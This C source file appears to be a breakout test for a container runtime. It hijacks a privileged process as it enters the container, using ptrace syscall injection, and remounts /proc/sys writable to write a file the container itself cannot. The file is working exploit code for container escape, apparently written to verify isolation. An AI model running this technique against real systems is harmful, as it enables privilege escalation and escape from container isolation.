/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Takes over whatever enters the container with more than its own powers, and has it
 * write a file that the container cannot: lxc-attach gives its powers up late.
 */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tests/breakout/act.h"

#ifdef __x86_64__

#define SECONDS 8

/* One system call by a stopped process; its text gets the instruction for that moment. */
static long remote(pid_t pid, const struct user_regs_struct *saved, long nr, const long *a)
{
	struct user_regs_struct regs = *saved;
	long text = ptrace(PTRACE_PEEKTEXT, pid, saved->rip, 0);
	int status;

	regs.rax = (unsigned long)nr;
	regs.orig_rax = (unsigned long)-1;
	regs.rdi = (unsigned long)a[0], regs.rsi = (unsigned long)a[1];
	regs.rdx = (unsigned long)a[2], regs.r10 = (unsigned long)a[3];
	regs.r8 = (unsigned long)a[4];
	/* syscall */
	if (ptrace(PTRACE_POKETEXT, pid, saved->rip, (text & ~0xffffL) | 0x050f) < 0 ||
	    ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
	    waitpid(pid, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return -errno;
	(void)ptrace(PTRACE_POKETEXT, pid, saved->rip, text);
	return (long)regs.rax;
}

static int put_text(pid_t pid, unsigned long at, const char *text)
{
	struct iovec here = { (void *)(unsigned long)text, strlen(text) + 1 };
	struct iovec there = { (void *)at, here.iov_len };

	return process_vm_writev(pid, &here, 1, &there, 1, 0) < 0 ? -errno : 0;
}

/* The cover is made writable, then the file is written; all with what the other one holds. */
static int use(pid_t pid, const char *path, const char *text)
{
	struct user_regs_struct regs;

	if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return -errno;

	unsigned long room = (regs.rsp - 4096) & ~15UL;
	long cover = (long)room, file = (long)room + 256, words = (long)room + 512;

	if (put_text(pid, room, "/proc/sys") < 0 || put_text(pid, room + 256, path) < 0 ||
	    put_text(pid, room + 512, text) < 0)
		return -EFAULT;
	(void)remote(pid, &regs, SYS_mount, (long[]){ 0, cover, 0, MS_REMOUNT | MS_BIND, 0 });
	long fd = remote(pid, &regs, SYS_openat, (long[]){ AT_FDCWD, file, O_WRONLY, 0, 0 });
	long r = fd < 0 ? fd
			: remote(pid, &regs, SYS_write,
				 (long[]){ fd, words, (long)strlen(text), 0, 0 });

	(void)remote(pid, &regs, SYS_mount,
		     (long[]){ 0, cover, 0, MS_REMOUNT | MS_BIND | MS_RDONLY, 0 });
	(void)ptrace(PTRACE_SETREGS, pid, 0, &regs);
	return r < 0 ? (int)r : 0;
}

static int is_powerful(pid_t pid)
{
	char path[64], line[256];
	unsigned long caps = 0;
	FILE *f;

	(void)snprintf(path, sizeof(path), "/proc/%d/status", pid);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "CapEff:", 7) == 0)
			caps = strtoul(line + 7, NULL, 16);
	if (f)
		(void)fclose(f);
	return (int)(caps >> 21 & 1); /* CAP_SYS_ADMIN */
}

static int seize(pid_t pid, const char *path, const char *text)
{
	int status, r;

	if (!is_powerful(pid) || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return -ESRCH;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0)
		return -errno;
	r = is_powerful(pid) ? use(pid, path, text) : -ESRCH;
	(void)ptrace(PTRACE_DETACH, pid, 0, 0);
	return r;
}

int act_seize(char **arg)
{
	time_t end = time(NULL) + SECONDS;
	pid_t last = getpid();

	(void)puts("held");
	(void)fflush(stdout);
	/* Numbers are given in order: only those after the last one can be new. */
	while (time(NULL) < end)
		for (pid_t pid = last + 1; pid < last + 200; pid++) {
			if (seize(pid, arg[0], arg[1]) != 0)
				continue;
			(void)puts("seized");
			return 0;
		}
	return -ESRCH;
}

#else

int act_seize(char **arg)
{
	(void)arg;
	return -ENOSYS;
}

#endif
